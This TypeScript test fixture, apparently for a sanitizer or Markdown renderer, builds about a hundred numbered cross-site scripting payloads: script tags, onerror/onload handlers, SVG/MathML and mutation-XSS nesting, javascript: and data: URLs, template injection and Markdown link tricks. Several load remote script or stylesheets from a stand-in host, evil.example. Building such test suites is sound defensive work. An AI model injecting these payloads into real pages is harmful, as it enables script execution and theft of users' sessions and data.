/**
 * What has run in other apps: the kinds that the OWASP cheat sheet on filter evasion and DOMPurify's tests go through, each
 * in our own words. A payload calls `probe` with its number, and the same words stand in it to be read.
 */
const SHAPES: readonly ((call: string) => string)[] = [
	// Scripts
	(call) => `<script>${call}</script>`,
	(call) => `<SCRIPT>${call}</SCRIPT>`,
	(call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
	(call) => `<script src="https://evil.example/a.js">${call}</script>`,
	(call) => `<script src=//evil.example/a.js></script> ${call}`,
	(call) => `<script type="module">${call}</script>`,
	(call) => `<script>/*<!--*/${call}//--></script>`,
	(call) => `"><script>${call}</script>`,
	(call) => `'><script>${call}</script>`,
	(call) => `</title><script>${call}</script>`,
	(call) => `</textarea><script>${call}</script>`,
	(call) => `</script><script>${call}</script>`,
	(call) => `<script\u000b>${call}</script>`,
	(call) => `<script/x>${call}</script>`,
	(call) => `<<script>${call}//<</script>`,
	// Pictures and media
	(call) => `<img src=x onerror=${call}>`,
	(call) => `<img src="x" onerror="${call}">`,
	(call) => `<img src=x onerror='${call}'//`,
	(call) => `<IMG SRC=x OnErRoR=${call}>`,
	(call) => `<img/src=x/onerror=${call}>`,
	(call) => `<img src="https://evil.example/pixel.png"> ${call}`,
	(call) => `<img src=x:x onerror=eval(src) alt="${call}">`,
	(call) => `<img srcset="https://evil.example/a.png 1x"> ${call}`,
	(call) => `<image src=x onerror=${call}>`,
	(call) => `<video><source onerror=${call}></video>`,
	(call) => `<video src=x onerror=${call}></video>`,
	(call) => `<audio src=x onerror=${call}></audio>`,
	(call) => `<picture><img src=x onerror=${call}></picture>`,
	(call) => `<input type=image src=x onerror=${call}>`,
	// Elements that begin by themselves
	(call) => `<body onload=${call}>`,
	(call) => `<svg onload=${call}>`,
	(call) => `<svg/onload=${call}>`,
	(call) => `<input autofocus onfocus=${call}>`,
	(call) => `<select autofocus onfocus=${call}>`,
	(call) => `<textarea autofocus onfocus=${call}></textarea>`,
	(call) => `<details open ontoggle=${call}>`,
	(call) => `<marquee onstart=${call}></marquee>`,
	(call) => `<div onpointerenter=${call} style="position:fixed;inset:0">`,
	(call) => `<p tabindex=1 onfocusin=${call}>`,
	(call) => `<dialog open onclose=${call}>`,
	(call) => `<style onload=${call}></style>`,
	(call) => `<link rel=stylesheet href="https://evil.example/a.css" onload=${call}>`,
	(call) => `<div style="animation-name:x" onanimationstart=${call}>`,
	// Frames and plugins
	(call) => `<iframe src="javascript:${call}"></iframe>`,
	(call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
	(call) => `<object data="javascript:${call}"></object>`,
	(call) => `<embed src="javascript:${call}">`,
	(call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
	(call) => `<frameset onload=${call}></frameset>`,
	(call) => `<portal src="https://evil.example/"></portal> ${call}`,
	// SVG and MathML
	(call) => `<svg><script>${call}</script></svg>`,
	(call) => `<svg><a xlink:href="javascript:${call}"><text>a</text></a></svg>`,
	(call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
	(call) => `<svg><set attributeName=href to="javascript:${call}"></svg>`,
	(call) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"></svg>`,
	(call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
	(call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
	(call) => `<math href="javascript:${call}">a</math>`,
	(call) => `<math><mi xlink:href="javascript:${call}">a</mi></math>`,
	(call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
	// Mutations and broken nesting
	(call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
	(call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
	(call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
	(call) => `<template><img src=x onerror=${call}></template>`,
	(call) => `<xmp><p title="</xmp><svg/onload=${call}>">`,
	(call) => `<!--><img src=x onerror=${call}>-->`,
	(call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
	(call) => `<?xml-stylesheet href="javascript:${call}"?>`,
	(call) => `<a\u0000 href=x onmouseover=${call}>a</a>`,
	// Addresses
	(call) => `<a href="javascript:${call}">a</a>`,
	(call) => `<a href=" \u0001javascript:${call}">a</a>`,
	(call) => `<a href="java\tscript:${call}">a</a>`,
	(call) => `<a href="&#106;avascript:${call}">a</a>`,
	(call) => `<a href="data:text/html,<script>${call}</script>">a</a>`,
	(call) => `<form action="javascript:${call}"><button>a</button></form>`,
	(call) => `<button formaction="javascript:${call}">a</button>`,
	(call) => `<base href="https://evil.example/"> ${call}`,
	(call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
	(call) => `<isindex action="javascript:${call}">`,
	// Styles
	(call) => `<style>@import "https://evil.example/a.css";</style> ${call}`,
	(call) => `<div style="background:url(https://evil.example/a.png)">${call}</div>`,
	(call) => `<div style="width:expression(${call})">a</div>`,
	// Templates of other frameworks, and ways out of strings
	(call) => `{{constructor.constructor('${call}')()}}`,
	(call) => '${' + call + '}',
	(call) => `{@html "<img src=x onerror=${call}>"}`,
	(call) => `';${call}//`,
	(call) => `";${call}//`,
	(call) => `\u2028${call}\u2029`
];

/** In Markdown a link keeps its words alone, so these show their number there. */
const LINKS: readonly ((call: string) => string)[] = [
	(call) => `[${call}](javascript:${call})`,
	(call) => `[${call}](JaVaScRiPt:${call})`,
	(call) => `[${call}](data:text/html;base64,PHNjcmlwdD5wcm9iZSgxKTwvc2NyaXB0Pg==)`,
	(call) => `[${call}](vbscript:${call})`,
	(call) => `[${call}](<javascript:${call}>)`,
	(call) => `[${call}](&#x6A;avascript:${call})`,
	(call) => `![${call}](https://evil.example/pixel.png)`,
	(call) => `![${call}](javascript:${call})`,
	(call) => `[${call}]: javascript:${call} "a" [${call}]`,
	(call) => `${call} $\\href{javascript:${call}}{a}$`,
	(call) => `${call} $\\includegraphics{https://evil.example/a.png}$`,
	(call) => `${call} $\\htmlData{onclick=${call}}{a}$`
];

/** A text that must stay one, and the words of it that must be seen. */
export interface Payload {
	readonly text: string;
	readonly seen: string;
}

const numbered = (shapes: typeof SHAPES, from: number): Payload[] =>
	shapes.map((shape, i) => {
		const call = `probe(${from + i})`;
		return { text: shape(call), seen: call };
	});

export const MARKUP: readonly Payload[] = numbered(SHAPES, 100);
export const ADDRESSES: readonly Payload[] = numbered(LINKS, 300);
